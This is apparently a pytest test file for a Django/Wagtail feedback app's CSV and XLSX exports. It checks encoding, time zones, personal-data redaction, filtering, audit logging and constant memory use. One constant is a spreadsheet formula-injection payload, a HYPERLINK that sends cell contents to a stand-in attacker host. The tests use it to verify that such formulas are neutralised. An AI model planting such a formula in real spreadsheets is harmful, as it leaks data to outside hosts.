"""Exports: safe in a spreadsheet, readable by Excel, streamed with constant memory, and logged."""

import csv
import io
import tracemalloc
from datetime import UTC, datetime

import openpyxl
import pytest
from django.test import override_settings
from wagtail.log_actions import registry
from wagtail.models import ModelLogEntry

from feedback.models import Export, Submission

from ..factories import DeskFactory, SubmissionFactory

pytestmark = pytest.mark.django_db

INDEX = "/admin/feedback/inbox/"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"тук")'


def download(client, query) -> bytes:
    """Return the export for a query string."""
    return b"".join(client.get(f"{INDEX}?{query}").streaming_content)


def csv_rows(client, query="export=csv") -> list[dict]:
    """Return the rows of a CSV export by heading."""
    text = download(client, query).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_csv_opens_in_columns_with_readable_letters_in_bulgarian_excel(admin_client):
    submission = SubmissionFactory(comment="Две, три; и „четири“")
    data = download(admin_client, "export=csv")
    assert data.startswith(b"\xef\xbb\xbf")
    header = data.decode("utf-8-sig").splitlines()[0]
    assert header.split(";")[:3] == ["Номер", "Получено", "Начин на постъпване"]
    row = csv_rows(admin_client)[0]
    assert row["Коментар"] == submission.comment


@override_settings(TIME_ZONE="Europe/Sofia")
def test_times_are_those_of_the_site_in_csv_and_xlsx(admin_client):
    SubmissionFactory(received_at=datetime(2026, 7, 1, 7, 30, tzinfo=UTC))
    assert csv_rows(admin_client)[0]["Получено"] == "2026-07-01 10:30"
    book = openpyxl.load_workbook(io.BytesIO(download(admin_client, "export=xlsx")))
    assert book.active["B2"].value == datetime(2026, 7, 1, 10, 30)  # noqa: DTZ001 - a cell has no zone


def test_formulas_are_text_in_csv_and_xlsx(admin_client):
    answers = [{"id": "a", "label": "=1+1", "value": FORMULA, "personal": False}]
    SubmissionFactory(comment=FORMULA, name="+359 2 123", topic_names=[FORMULA], answers=answers)
    row = csv_rows(admin_client, "export=csv&personal=1")[0]
    assert row["Коментар"] == f"'{FORMULA}"
    assert row["Име"] == "'+359 2 123"
    assert not [value for value in row.values() if value.startswith(("=", "+", "-", "@"))]
    book = openpyxl.load_workbook(io.BytesIO(download(admin_client, "export=xlsx&personal=1")))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "inlineStr"}


def test_export_without_personal_data_names_no_sender(admin_client):
    answers = [
        {"id": "a", "label": "Телефон", "value": "0888 123", "personal": True},
        {"id": "b", "label": "Квартал", "value": "Център", "personal": False},
    ]
    submission = SubmissionFactory(address="ул. „Пирин“ 5", answers=answers)
    text = download(admin_client, "export=csv").decode()
    for secret in (submission.name, submission.email, submission.address, "0888 123", submission.secret):
        assert secret not in text
    assert "Квартал: Център" in text
    named = download(admin_client, "export=csv&personal=1").decode()
    assert "0888 123" in named
    assert submission.email in named
    assert submission.secret not in named


def test_export_respects_the_filters_of_the_list(admin_client):
    one, two = SubmissionFactory(), SubmissionFactory()
    rows = csv_rows(admin_client, f"export=csv&desk={two.desk.pk}")
    assert [row["Номер"] for row in rows] == [two.reference]
    assert one.reference not in str(rows)


def test_export_is_logged_without_the_search_text(admin_client, admin_user):
    submission = SubmissionFactory()
    download(admin_client, f"export=csv&personal=1&q={submission.email}")
    entry = registry.get_logs_for_instance(Export.objects.get()).get()
    assert entry.user == admin_user
    assert entry.message == "Изтеглени съобщения с лични данни: 1"
    assert submission.email not in str(list(Export.objects.values())) + str(
        list(ModelLogEntry.objects.values())
    )


@pytest.mark.slow
def test_memory_of_an_export_does_not_grow_with_its_rows(admin_client):
    desk = DeskFactory()
    template = SubmissionFactory.build(desk=desk, comment="Дълъг текст. " * 50)

    def add(count, offset):
        fields = {
            field.attname: getattr(template, field.attname)
            for field in Submission._meta.concrete_fields
            if field.name not in ("id", "key", "secret", "reference", "is_open")
        }
        Submission.objects.bulk_create(
            [Submission(**fields, reference=f"x{offset + number}") for number in range(count)], batch_size=500
        )

    def peak():
        tracemalloc.start()
        for _chunk in admin_client.get(f"{INDEX}?export=csv").streaming_content:
            pass
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return peak

    add(3000, 0)
    short = peak()
    add(6000, 3000)
    assert peak() < short * 1.5
